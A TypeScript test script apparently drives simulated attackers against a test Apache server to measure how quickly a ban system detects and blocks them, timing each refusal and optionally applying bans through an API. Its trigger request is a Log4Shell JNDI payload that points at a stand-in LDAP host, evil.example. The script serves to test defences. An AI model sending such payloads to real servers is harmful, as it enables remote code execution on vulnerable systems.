/**
 * Runs in the namespace of test/apache.ts: attackers, one after the other. Each sends the request for which it must be banned,
 * then asks for the page again and again without a pause until it is refused. Says what it saw, one JSON line an attacker.
 */
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { Random } from "./random.ts";

/** What it is told, as JSON in its only argument. */
export interface Attackers {
  readonly count: number;
  readonly seed: number;
  readonly hosts: { readonly ipv4: string; readonly ipv6: string };
  /** Where a person stands by who has waiting bans brought into force as soon as they are there. */
  readonly person: { readonly url: string; readonly token: string; readonly enforcer: string } | null;
}

/** One attacker's end. */
export interface Refusal {
  readonly address: string;
  /** Milliseconds since 1970. Where nothing came back: when the request was sent, since it was dropped then. */
  readonly refusedAt: number;
  readonly asked: number;
  /** In words: `403`, an error's code, or `silence`. */
  readonly how: string;
}

/** What the offending line is known by; rules find it as a look-up of a logger's (Log4Shell). */
const OFFENCE = "/?q=%24%7Bjndi:ldap://evil.example/a%7D";
/** A dropped packet is sent again after a second, and is dropped again: so late an answer would be there. */
const SILENT_MS = 2_500;
/** Once an answer takes so long the next attacker need not wait. */
const QUIET_MS = 100;
const PAUSE_MS = { least: 60, most: 160 };
const GIVE_UP_MS = 30_000;
const PERSON_LOOKS_EVERY_MS = 5;

const { count, seed, hosts, person } = JSON.parse(process.argv[2]!) as Attackers;
/** As Apache has it: the clock of the system. */
const clock = (): number => performance.timeOrigin + performance.now();

interface Answer {
  readonly status: number | null;
  readonly at: number;
  readonly how: string;
}

/** One connection and one request. `quiet` is called when it waits long. */
function ask(address: string, path: string, quiet: () => void): Promise<Answer> {
  return new Promise((resolve) => {
    const host = address.includes(":") ? hosts.ipv6 : hosts.ipv4;
    let sentAt = clock();
    let isOpen = false;
    const socket = connect({ host, port: 80, localAddress: address, noDelay: true });
    const timers = [setTimeout(quiet, QUIET_MS), setTimeout(() => end(null, "silence"), SILENT_MS)];
    const end = (status: number | null, how: string): void => {
      for (const timer of timers) clearTimeout(timer);
      socket.destroy();
      resolve({ status, at: isOpen && how !== "silence" ? clock() : sentAt, how });
    };
    socket.setEncoding("latin1");
    socket.on("connect", () => {
      isOpen = true;
      sentAt = clock();
      socket.write(
        `GET ${path} HTTP/1.1\r\nHost: site.example\r\nUser-Agent: curl/8.5.0\r\nConnection: close\r\n\r\n`,
      );
    });
    socket.on("error", (error: NodeJS.ErrnoException) => end(null, error.code ?? error.message));
    socket.on("data", (text: string) => {
      const status = Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1] ?? 0);
      end(status, String(status));
    });
    socket.on("end", () => end(null, "closed"));
  });
}

async function attack(address: string, quiet: () => void): Promise<Refusal> {
  const offence = await ask(address, OFFENCE, () => {});
  if (offence.status !== 200)
    throw new Error(`${address} was refused before it did anything: ${offence.how}`);
  const byPerson = person === null ? null : applyWhenBanned(address);
  let first: Refusal | null = null;
  for (let asked = 1; ; asked++) {
    const { status, at, how } = await ask(address, "/", quiet);
    if (status === 200) {
      // A connection may also be closed by a reload, and the next one is served.
      first = null;
      if (at > offence.at + GIVE_UP_MS) throw new Error(`${address} is not refused`);
    } else if (first === null) {
      first = { address, refusedAt: at, asked, how };
    } else {
      await byPerson;
      return first;
    }
  }
}

/** A person who sees the ban and wants it in force now. */
async function applyWhenBanned(address: string): Promise<void> {
  const { url, token, enforcer } = person!;
  const headers = { authorization: `Bearer ${token}` };
  // Of IPv6 the network is banned.
  const target = `"${address.replace(/::.*/, "::")}/`;
  for (;;) {
    const bans = await (await fetch(`${url}/api/bans?state=active&limit=1`, { headers })).text();
    if (bans.includes(target)) break;
    await sleep(PERSON_LOOKS_EVERY_MS);
  }
  const { status } = await fetch(`${url}/api/enforcers/${enforcer}/apply`, { method: "POST", headers });
  if (status !== 202) throw new Error(`the person's wish was answered with ${status}`);
}

/** No two of a network, so that each is a ban of its own; one in seven has IPv6. */
const addressOf = (n: number): string =>
  n % 7 === 6 ? `2001:db8:${n.toString(16)}::7` : `10.${n >> 8}.${n & 255}.7`;

const random = new Random(seed);
const ends: Promise<void>[] = [];
for (let n = 0; n < count; n++) {
  await new Promise<void>((quiet) => {
    const end = attack(addressOf(n), quiet);
    ends.push(
      end.then((refusal) => void process.stdout.write(`${JSON.stringify(refusal)}\n`)).finally(quiet),
    );
  });
  // At random, so that no attack keeps step with what the programs do at intervals.
  await sleep(PAUSE_MS.least + random.below(PAUSE_MS.most - PAUSE_MS.least));
}
await Promise.all(ends);
process.exit(0);
